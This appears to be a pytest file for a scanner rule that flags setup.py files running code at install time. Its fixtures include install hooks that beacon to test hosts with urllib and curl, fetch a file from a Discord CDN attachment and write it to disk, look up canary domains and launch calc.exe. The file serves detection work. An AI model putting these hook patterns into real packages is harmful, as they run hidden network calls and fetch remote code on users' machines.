"""Acts of an installation."""

from lazaretto.detect.rules.python.setup_runs_code import RULE


def test_a_request(scan):
    text = r"""from setuptools import setup
from setuptools.command.install import install
import urllib.request
class Beacon(install):
    def run(self):
        urllib.request.urlopen("https://x.oast.test/00000000", timeout=3)
        install.run(self)
setup(cmdclass={"install": Beacon})
"""
    assert scan(RULE, text, "setup.py") == [(6, "HIGH", "HIGH", "install")]


def test_a_command(scan):
    text = r"""import os
os.system("curl https://x.oast.test/0000")
"""
    assert scan(RULE, text, "setup.py") == [(2, "HIGH", "HIGH", "install")]


def test_an_odd_program(scan):
    text = r"""import subprocess
subprocess.call("cscript helper.vbs")
"""
    assert scan(RULE, text, "setup.py") == [(2, "MEDIUM", "MEDIUM", "install")]


def test_near_miss_a_native_build(scan):
    text = r"""import subprocess, os
from setuptools import setup
from setuptools.command.build_ext import build_ext
class Build(build_ext):
    def run(self):
        subprocess.check_call(["cmake", "--build", "."])
        subprocess.check_output(["git", "describe", "--tags"])
        subprocess.check_output("pkg-config --libs zlib", shell=True)
setup(cmdclass={"build_ext": Build})
"""
    assert scan(RULE, text, "setup.py") == []


def test_an_installer_starts_it(run):
    signals = run(RULE, "from setuptools import setup\nsetup()\n", "lib/setup.py").signals
    assert [(s.kind, s.value) for s in signals] == [("start", "install\tlib/setup.py")]


def test_near_miss_a_command_of_the_maintainer(scan):
    text = """import sys, urllib.request, os
from setuptools import setup
if sys.argv[-1] == "publish":
    urllib.request.urlopen("https://collect.example.test/released")
    os.system("whoami")
setup()
"""
    assert scan(RULE, text, "setup.py") == []
    command = text.replace("if sys.argv[-1]", "word = sys.argv[-1]\nif word")
    assert scan(RULE, command, "setup.py") == []
    asked = text.replace('"publish"', '"install"')
    assert [row[:2] for row in scan(RULE, asked, "setup.py")] == [(4, "MEDIUM"), (5, "MEDIUM")]


def test_a_name_is_looked_up_and_nothing_else(scan):
    text = "import socket\nfrom setuptools import setup\nsocket.gethostbyname('beacon.example.test')\nsetup()\n"
    assert scan(RULE, text, "setup.py") == [(3, "MEDIUM", "MEDIUM", "install")]


def test_something_is_written_to_a_place_of_the_system(scan):
    text = "from setuptools import setup\nopen('/tmp/proof', 'w').write('x')\nsetup()\n"
    assert scan(RULE, text, "setup.py") == [(2, "MEDIUM", "MEDIUM", "install")]


def test_a_web_page_is_opened(scan):
    text = "import webbrowser\nfrom setuptools import setup\nwebbrowser.open('https://page.example.test')\nsetup()\n"
    assert scan(RULE, text, "setup.py") == [(3, "MEDIUM", "MEDIUM", "install")]


def test_an_address_is_handed_to_another_file(scan):
    text = r"""from setuptools import setup, Command
class Run(Command):
    def run(self):
        from package import main
        main("https://cdn.discordapp.com/attachments/0/0/a.py", "a.py")
setup(name="a", cmdclass={"install": Run})
"""
    assert scan(RULE, text, "setup.py") == [(5, "HIGH", "HIGH", "install")]


def test_near_miss_an_ordinary_address_and_the_metadata(scan):
    text = r"""from setuptools import setup
from package import check
check("https://docs.example.test/")
setup(name="a", url="https://pastebin.com/000", download_url="https://pastebin.com/000")
"""
    assert scan(RULE, text, "setup.py") == []


def test_a_file_from_a_chats_store(scan):
    text = r"""import requests
from setuptools import setup
from setuptools.command.install import install
class Install(install):
    def run(self):
        with open("a.py", "wb") as f:
            f.write(requests.get("https://cdn.discordapp.com/attachments/0/0/a.py").content)
        install.run(self)
setup(name="a", cmdclass={"install": Install})
"""
    assert (7, "HIGH", "HIGH", "install") in scan(RULE, text, "setup.py")


def test_a_name_that_is_looked_up_and_a_window(scan):
    text = 'import os, socket\nfrom setuptools import setup\nsocket.gethostbyname("{}")\nsetup(name="a")\n'
    assert scan(RULE, text.format("package-poc.example-canary.test"), "package-1.0/setup.py") == [
        (3, "HIGH", "HIGH", "install")
    ]
    assert scan(RULE, text.format("time.example-canary.test"), "package-1.0/setup.py") == [
        (3, "MEDIUM", "MEDIUM", "install")
    ]
    calc = 'import os\nfrom setuptools import setup\nos.system("calc.exe")\nsetup(name="a")\n'
    assert scan(RULE, calc, "setup.py") == [(3, "HIGH", "HIGH", "install")]
